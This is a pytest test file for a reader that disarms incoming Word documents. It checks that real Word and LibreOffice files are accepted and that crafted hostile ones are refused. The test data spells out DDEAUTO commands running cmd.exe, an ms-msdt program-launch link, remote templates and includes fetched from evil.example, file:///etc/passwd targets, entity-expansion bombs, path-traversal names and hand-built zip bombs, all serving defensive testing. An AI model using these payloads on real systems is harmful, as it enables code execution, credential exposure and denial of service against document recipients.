"""Word files made to do more than hold text: each is refused, and what Word and LibreOffice really write is not."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

import pytest
from cli.word_forms import filled
from conftest import many
from hypothesis import given, settings
from hypothesis import strategies as st
from unit.test_word import NUMBER, RAW

from cdr.documents.incoming import docx
from cdr.documents.return_form import word_reading

Parts = dict[str, bytes]
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
MAIN, KINDS, ABOUT_MAIN = "word/document.xml", "[Content_Types].xml", "word/_rels/document.xml.rels"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
GOOD = filled(RAW, {"completed_by.name": "Dr Ẹ̀bùn", "circumstances.narrative": "One.\nTwo."})


def parts() -> Parts:
    with zipfile.ZipFile(io.BytesIO(GOOD)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(made: Parts, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in made.items():
            archive.writestr(name, data)
    return out.getvalue()


def read(made: Parts | bytes) -> tuple[str, dict[str, str | list[str]]]:
    fault, said = word_reading.read(made if isinstance(made, bytes) else packed(made), "acute_hospital")
    return fault.words if fault else "", said


def with_part(name: str, kind: str, data: bytes) -> Parts:
    made = parts()
    made[name] = data
    made[KINDS] = made[KINDS].replace(
        b"</Types>", f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'.encode()
    )
    return made


def with_relation(inside: str, part: str = ABOUT_MAIN) -> Parts:
    made = parts()
    made[part] = made[part].replace(b"</Relationships>", f"{inside}</Relationships>".encode())
    return made


def relation(kind: str, target: str, mode: str = "", base: str = OFFICE) -> str:
    where = f' TargetMode="{mode}"' if mode else ""
    return f'<Relationship Id="rId99" Type="{base}/{kind}" Target="{target}"{where}/>'


def in_text(xml: str, part: str = MAIN) -> Parts:
    made = parts()
    at = made[part].rindex(b"<w:sectPr") if part == MAIN else made[part].rindex(b"</")
    made[part] = made[part][:at] + xml.encode() + made[part][at:]
    return made


def field(*pieces: str, between: str = "") -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>{between}' for piece in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    return f"<w:p>{mark('begin')}{runs}{mark('separate')}<w:r><w:t>x</w:t></w:r>{mark('end')}</w:p>"


def with_entity() -> Parts:
    made = with_relation(relation("image", "http://evil.example/a.png", "&e;"))
    made[ABOUT_MAIN] = made[ABOUT_MAIN].replace(
        b"<Relationships", b'<!DOCTYPE r [<!ENTITY e "External">]><Relationships', 1
    )
    return made


def other_case(name: str) -> Parts:
    made = with_relation(relation("image", "http://evil.example/a.png", "External"))
    made[name] = made.pop(ABOUT_MAIN)
    return made


def in_utf_16(data: bytes) -> bytes:
    return data.decode().replace("encoding='UTF-8'", "encoding='UTF-16'").encode("utf-16")


def utf_16_with_entity() -> Parts:
    made = with_entity()
    made[ABOUT_MAIN] = in_utf_16(made[ABOUT_MAIN])
    return made


def renamed(name: str) -> Parts:
    made = parts()
    made[name] = b"x"
    return made


def as_kind(kind: str) -> Parts:
    made = parts()
    made[KINDS] = made[KINDS].replace(f"{WORD}.document.main+xml".encode(), kind.encode())
    return made


def strangers(*names: str) -> bytes:
    """A zip file with two entries of which a reader may take either."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts().items():
            archive.writestr(name, data)
        for name in names:
            archive.writestr(name, b"<x/>")
    return out.getvalue()


IMAGE = "http://evil.example/a.png"
PE = b"MZ\x90\x00\x03" + bytes(200)
MANY_ENTITIES = b'<!DOCTYPE x [<!ENTITY a0 "%s">%s]><x>&a8;</x>' % (
    b"b" * 99,
    b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 20) for n in range(1, 9)),
)
HOSTILE: dict[str, Callable[[], Parts | bytes]] = {
    "an entity for the mode": with_entity,
    "the same in UTF-16": utf_16_with_entity,
    "characters by number": lambda: with_relation(relation("image", IMAGE, "&#69;xternal")),
    "an attribute that holds the word hyperlink": lambda: with_relation(
        relation("image", IMAGE, "External").replace("/>", f' Note="{OFFICE}/hyperlink"/>')
    ),
    "a target that holds the word hyperlink": lambda: with_relation(
        relation("image", f"http://evil.example{'/relationships/hyperlink'}/a.png", "External")
    ),
    "a type that begins with a hyperlink's": lambda: with_relation(relation("hyperlink/../image", IMAGE, "External")),
    "a mode in other letters": lambda: with_relation(relation("image", IMAGE, "EXTERNAL")),
    "relations in capitals": lambda: other_case("WORD/_RELS/DOCUMENT.XML.RELS"),
    "relations of a part that is not there": lambda: with_part("word/_rels/footer9.xml.rels", "x/y", b""),
    "a template from elsewhere": lambda: with_relation(relation("attachedTemplate", "https://evil.example/a.dotm", "External")),
    "a file of this machine": lambda: with_relation(relation("image", "file:///etc/passwd")),
    "another machine": lambda: with_relation(relation("image", "//evil.example/a.png")),
    "a share": lambda: with_relation(relation("image", "\\\\evil.example\\a.png")),
    "above the file": lambda: with_relation(relation("image", "../../../a.png")),
    "a link that starts a program": lambda: with_relation(relation("hyperlink", "ms-msdt:/id PCWDiagnostic", "External")),
    "a link to a share": lambda: with_relation(relation("hyperlink", "file://evil.example/a", "External")),
    "a frame": lambda: with_relation(relation("frame", "http://evil.example/", "External")),
    "a data source": lambda: with_relation(relation("mailMergeSource", "http://evil.example/", "External")),
    "another document taken in": lambda: with_relation(relation("aFChunk", "document.xml")),
    "a part of a document": lambda: with_relation(relation("subDocument", "document.xml")),
    "an unknown relation": lambda: with_relation(relation("webextensiontaskpanes", "document.xml", "", "http://schemas.microsoft.com/office/2011/relationships")),
    "an object": lambda: with_relation(relation("oleObject", "media/a.png")),
    "a control": lambda: with_relation(relation("control", "media/a.png")),
    "DDEAUTO": lambda: in_text(field(r' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" ')),
    "DDE in pieces": lambda: in_text(field(" D", "D", "E excel ")),
    "dde in small letters": lambda: in_text(field(" dde excel x ")),
    "DDE with text between": lambda: in_text(field(" D", "E x", between="<w:r><w:t>D</w:t></w:r>")),
    "INCLUDEPICTURE": lambda: in_text(field(f' INCLUDEPICTURE "{IMAGE}" \\d ')),
    "INCLUDETEXT": lambda: in_text(field(' INCLUDETEXT "http://evil.example/a.docx" ')),
    "a simple field": lambda: in_text(f"<w:p><w:fldSimple w:instr='INCLUDEPICTURE \"{IMAGE}\"'/></w:p>"),
    "a field in a footer": lambda: in_text(field(" DDEAUTO x "), "word/footer1.xml"),
    "a field whose code is a field": lambda: in_text(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + field(" QUOTE 68 68 69 ") + "</w:p>"
    ),
    "a field without an end": lambda: in_text('<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r></w:p>'),
    "code without a field": lambda: in_text("<w:p><w:r><w:instrText>DDE x</w:instrText></w:r></w:p>"),
    "a field that asks": lambda: in_text(field(" MACROBUTTON AutoOpen x ")),
    "a link field to a share": lambda: in_text(field(r' HYPERLINK "\\\\evil.example\\a" ')),
    "altChunk": lambda: in_text('<w:altChunk xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/>'),
    "an embedded object": lambda: in_text('<w:p><w:r><w:object/></w:r></w:p>'),
    "a picture by its address": lambda: in_text(
        f'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="{IMAGE}"/></v:shape></w:pict></w:r></w:p>'
    ),
    "a data source in the settings": lambda: in_text('<w:mailMerge><w:query w:val="x"/></w:mailMerge>', "word/settings.xml"),
    "a document type in a part that is not read": lambda: with_part(
        "customXml/item9.xml", "application/xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
    ),
    "many entities": lambda: with_part("customXml/item9.xml", "application/xml", MANY_ENTITIES),
    "XML that is none": lambda: with_part("customXml/item9.xml", "application/xml", b"<x>"),
    "macros": lambda: with_part("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", b"x"),
    "macros by another name": lambda: with_part("word/theme/a.xml", "application/vnd.ms-office.vbaProject", b"x"),
    "macros in the main part": lambda: as_kind("application/vnd.ms-word.document.macroEnabled.main+xml"),
    "a template": lambda: as_kind(f"{WORD}.template.main+xml"),
    "an executable among the pictures": lambda: with_part("word/media/image1.png", "image/png", PE),
    "an executable as what it is": lambda: with_part("word/media/a.exe", "application/x-msdownload", PE),
    "a page among the pictures": lambda: with_part("word/media/image1.gif", "image/gif", b"<html>"),
    "a drawing that is a program": lambda: with_part("word/media/image1.svg", "image/svg+xml", b"<svg onload='x'/>"),
    "a spreadsheet inside": lambda: with_part(
        "word/media/a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", b"PK\x03\x04"
    ),
    "a part without a kind": lambda: renamed("word/a.dat"),
    "above the folder": lambda: renamed("../evil.xml"),
    "above the folder, further in": lambda: renamed("word/../../evil.xml"),
    "a folder above": lambda: renamed("word/../"),
    "at the root": lambda: renamed("/etc/evil.xml"),
    "with backslashes": lambda: renamed("..\\evil.xml"),
    "with a drive": lambda: renamed("C:/evil.xml"),
    "with signs by number": lambda: renamed("word/%2e%2e/evil.xml"),
    "with an empty step": lambda: renamed("word//evil.xml"),
    "with a dot at its end": lambda: renamed("word/evil.xml."),
    "with a line break": lambda: renamed("word/a\nb.xml"),
    "a name twice": lambda: strangers("word/Document.xml"),
    "too many parts": lambda: {**parts(), **{f"word/{n}.xml": b"<x/>" for n in range(600)}},
    "far too large": lambda: with_part("word/media/image1.png", "image/png", b"\x89PNG\r\n\x1a\n" + bytes(40 * 1024 * 1024)),
    "far too large in XML": lambda: with_part("customXml/item9.xml", "application/xml", b"<x>" + b"<a/>" * 1_000_000 + b"</x>"),
    "too deep": lambda: with_part("customXml/item9.xml", "application/xml", b"<a>" * 5000 + b"</a>" * 5000),
    "a program before the file": lambda: PE + packed(parts()),
    "no kinds": lambda: {name: data for name, data in parts().items() if name != KINDS},
    "no main part": lambda: {name: data for name, data in parts().items() if name != MAIN},
    "two main parts": lambda: with_relation(relation("officeDocument", "word/document.xml"), "_rels/.rels"),
    "boxes within boxes": lambda: in_text("<w:sdt><w:sdtContent>" * 20 + "</w:sdtContent></w:sdt>" * 20),
}  # fmt: skip


@pytest.mark.parametrize("how", HOSTILE)
def test_what_does_more_than_hold_text_is_refused_in_words_that_say_what_to_do(how: str) -> None:
    words, said = read(HOSTILE[how]())
    assert words and not said
    assert any(
        advice in words for advice in ("Ask for", "Save it", "save it", "Copy the answers", "Delete the copy")
    ), words
    assert "evil" not in words and "http" not in words


def overlapping() -> bytes:
    """A zip file whose entries are all the same bytes, so that a little unpacks to very much."""
    import zlib

    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = bytes(1024 * 1024)
    body = packer.compress(data) + packer.flush()
    crc = zlib.crc32(data)
    head = (
        struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 33, crc, len(body), len(data), 5, 0) + b"a.xml" + body
    )
    listed = b"".join(
        struct.pack(
            "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 33, crc, len(body), len(data), 5, 0, 0, 0, 0, 0, 0
        )
        + b"%05d" % n
        for n in range(400)
    )
    return head + listed + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 400, 400, len(listed), len(head), 0)


def test_zip_files_that_unpack_to_too_much_are_not_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(zipfile.ZipFile, "read", lambda *_: pytest.fail("it was unpacked"))
    many_times = packed({"a.xml": bytes(20 * 1024 * 1024)})
    for raw in (overlapping(), many_times, packed({f"{n}.xml": bytes(1024 * 1024) for n in range(40)})):
        assert word_reading.read(raw, "acute_hospital")[0] == docx.TOO_MUCH


def test_a_size_that_is_not_true_unpacks_to_no_more_than_it_says() -> None:
    raw = bytearray(packed({**parts(), "word/fontTable.xml": b"<x>" + b" " * 4_000_000 + b"</x>"}))
    for start in (raw.index(b"word/fontTable.xml") - 30 + 22, raw.rindex(b"word/fontTable.xml") - 46 + 24):
        raw[start : start + 4] = struct.pack("<I", 100)
    assert word_reading.read(bytes(raw), "acute_hospital")[0] == docx.NO_WORD


# ---- what programs really write --------------------------------------------------------------------------------------


def as_word_saves_it() -> Parts:
    """With the parts that Word and the tools of a trust add: notes, comments, labels, properties, placeholders, a thumbnail, a link."""
    made = parts()
    xml = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
    more = {
        "word/footnotes.xml": (f"{WORD}.footnotes+xml", "footnotes"),
        "word/endnotes.xml": (f"{WORD}.endnotes+xml", "endnotes"),
        "word/comments.xml": (f"{WORD}.comments+xml", "comments"),
        "word/header1.xml": (f"{WORD}.header+xml", "header"),
        "word/glossary/document.xml": (f"{WORD}.document.glossary+xml", "glossaryDocument"),
    }
    relations = kinds = ""
    for number, (name, (kind, type_)) in enumerate(more.items()):
        made[name] = xml + f'<w:{type_} xmlns:w="{W}"/>'.encode()
        kinds += f'<Override PartName="/{name}" ContentType="{kind}"/>'
        relations += (
            f'<Relationship Id="rId{50 + number}" Type="{OFFICE}/{type_}" Target="{name.removeprefix("word/")}"/>'
        )
    for year, name in (
        ("2011", "people"),
        ("2011", "commentsExtended"),
        ("2016/09", "commentsIds"),
        ("2018/08", "commentsExtensible"),
    ):
        made[f"word/{name}.xml"] = xml + b"<x/>"
        kinds += f'<Override PartName="/word/{name}.xml" ContentType="{WORD}.{name}+xml"/>'
        relations += f'<Relationship Id="rId7{len(name)}" Type="http://schemas.microsoft.com/office/{year}/relationships/{name}" Target="{name}.xml"/>'
    made["docMetadata/LabelInfo.xml"] = xml + b"<clbl:labelList xmlns:clbl='x'/>"
    kinds += '<Override PartName="/docMetadata/LabelInfo.xml" ContentType="application/vnd.ms-office.classificationlabels+xml"/>'
    made["docProps/custom.xml"] = xml + b"<Properties/>"
    kinds += '<Override PartName="/docProps/custom.xml" ContentType="application/vnd.openxmlformats-officedocument.custom-properties+xml"/>'
    made["docProps/thumbnail.emf"] = b"\x01\x00\x00\x00" + bytes(100)
    kinds += '<Default Extension="emf" ContentType="image/x-emf"/>'
    made["_rels/.rels"] = made["_rels/.rels"].replace(b"</Relationships>", "".join([
        relation("custom-properties", "docProps/custom.xml"), relation("metadata/thumbnail", "docProps/thumbnail.emf", "", PACKAGE),
        '<Relationship Id="rId6" Type="http://schemas.microsoft.com/office/2020/02/relationships/classificationlabels" Target="docMetadata/LabelInfo.xml"/>',
        "</Relationships>"]).encode())  # fmt: skip
    relations += relation("hyperlink", "https://www.ncmd.info/", "External")
    made[ABOUT_MAIN] = made[ABOUT_MAIN].replace(b"</Relationships>", f"{relations}</Relationships>".encode())
    made[KINDS] = made[KINDS].replace(b"</Types>", f"{kinds}</Types>".encode())
    return made | {
        MAIN: in_text(field(" PAGE ", r" \* MERGEFORMAT ") + field(' HYPERLINK "https://www.ncmd.info/" '))[MAIN]
    }


def as_word_online_saves_it() -> Parts:
    """With another name of the main part, from the root of the file, and letters of either case."""
    made = parts()
    made["word/document2.xml"] = made.pop(MAIN)
    made["word/_rels/document2.xml.rels"] = made.pop(ABOUT_MAIN)
    made["_rels/.rels"] = made["_rels/.rels"].replace(b'"word/document.xml"', b'"/word/document2.xml"')
    made[KINDS] = made[KINDS].replace(b"/word/document.xml", b"/Word/Document2.xml")
    return made


def as_libreoffice_saves_it() -> Parts:
    """Without tags, with the kind of each part of relations named, a page number in pieces, no customXml."""
    import re

    made = parts()
    made[MAIN] = re.sub(rb"<w:tag [^>]*/>", b"", in_text(field(" PAGE "))[MAIN])
    named = "".join(
        f'<Override PartName="/{name}" ContentType="{docx.RELATIONS_KIND}"/>' for name in made if name.endswith(".rels")
    )
    made[KINDS] = made[KINDS].replace(b"</Types>", f"{named}</Types>".encode())
    return made


def as_a_zip_tool_saves_it() -> Parts:
    return {"word/": b"", "_rels/": b"", **parts()}


def in_utf_16_throughout() -> Parts:
    return {name: in_utf_16(data) if name in (MAIN, ABOUT_MAIN) else data for name, data in parts().items()}


@pytest.mark.parametrize(
    "save", [parts, as_word_saves_it, as_word_online_saves_it, as_libreoffice_saves_it, as_a_zip_tool_saves_it, in_utf_16_throughout]
)  # fmt: skip
def test_what_programs_write_is_read(save: Callable[[], Parts]) -> None:
    words, said = read(save())
    assert not words
    assert said["completed_by.name"] == "Dr Ẹ̀bùn" and said["circumstances.narrative"] == "One.\nTwo."
    assert said["request"] == NUMBER


@settings(max_examples=many(15), deadline=None)
@given(st.data())
def test_a_relation_made_up_of_pieces_leads_nowhere_outside(data: st.DataObject) -> None:
    kinds = ["image", "hyperlink", "styles", "attachedTemplate", "oleObject", "IMAGE", "hyperlink ", "image/hyperlink"]
    targets = ["http://evil.example/a", "HTTP://evil.example", "file:///a", "styles.xml", "../customXml/item1.xml", "//evil.example/x", "javascript:x",
               "mailto:a@b.example", "#a", "", "a:b", "\\\\evil\\x", "..//..//x"]  # fmt: skip
    kind, target = data.draw(st.sampled_from(kinds)), data.draw(st.sampled_from(targets))
    mode = data.draw(st.sampled_from(["", "External", "Internal", "external", "x"]))
    words, _ = read(with_relation(relation(kind, target, mode)))
    if not words:
        link = kind == "hyperlink" and (mode in ("", "Internal") or target.lower().startswith(("http", "mailto:", "#")))
        assert link or (mode in ("", "Internal") and target in ("styles.xml", "../customXml/item1.xml", "#a", "")), (
            kind,
            target,
            mode,
        )
